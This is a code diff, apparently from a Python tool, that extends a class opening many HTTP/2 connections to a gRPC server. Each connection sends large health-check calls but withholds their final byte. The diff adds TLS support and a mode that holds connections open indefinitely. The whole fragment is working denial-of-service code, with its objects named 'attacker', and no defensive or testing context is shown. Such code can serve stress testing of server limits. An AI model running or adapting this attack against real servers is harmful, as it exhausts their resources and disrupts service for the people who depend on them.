@@ -54,8 +54,8 @@ def call_headers(method):
 class UnfinishedCalls:
     """A connection whose calls each send a message but for its last byte, as far as the other side lets them."""
 
-    def __init__(self, address, method, calls, size):
-        self.connection = connect(address)
+    def __init__(self, address, method, calls, size, secured):
+        self.connection = secure(connect(address)) if secured else connect(address)
         self.connection.setblocking(False)
         self.waiting, self.received = bytearray(BEGIN), bytearray()
         self.window, self.first_window, self.windows = 65535, 65535, {}
@@ -71,7 +71,7 @@ class UnfinishedCalls:
             while part := self.connection.recv(1 << 16):
                 self.received += part
             return False
-        except BlockingIOError:
+        except (BlockingIOError, ssl.SSLWantReadError):
             pass
         except OSError:
             return False
@@ -109,21 +109,22 @@ class UnfinishedCalls:
             self.windows[stream] -= size
             self.left[stream] -= size
             self.sent += size
-        with contextlib.suppress(BlockingIOError):
-            del self.waiting[:self.connection.send(self.waiting)]
+        with contextlib.suppress(BlockingIOError, ssl.SSLWantWriteError):
+            if self.waiting:
+                del self.waiting[:self.connection.send(self.waiting)]
         return True
 
 
-def send_unfinished(address, done, most=1 << 62, method="/grpc.health.v1.Health/Check", connections=8, calls=64,
-                    size=15 << 20):
-    """At most so many bytes in all; returns how many."""
+def send_unfinished(address, done, most=1 << 62, stop_at=1 << 62, secured=False):
+    """At most so many bytes in all; returns how many. Eight connections at once, or, where each is to stop at so many
+    and stay as it is, one after the other."""
     sent, live = 0, []
     while not done.is_set() and sent + sum(attacker.sent for attacker in live) < most:
-        while len(live) < connections:
-            live.append(UnfinishedCalls(address, method, calls, size))
+        while all(attacker.sent >= stop_at for attacker in live) if stop_at < most else len(live) < 8:
+            live.append(UnfinishedCalls(address, "/grpc.health.v1.Health/Check", 64, 15 << 20, secured))
         for attacker in list(live):
             with contextlib.suppress(OSError):
-                if attacker.turn():
+                if attacker.hear() if attacker.sent >= stop_at else attacker.turn():
                     continue
             live.remove(attacker)
             sent += attacker.sent
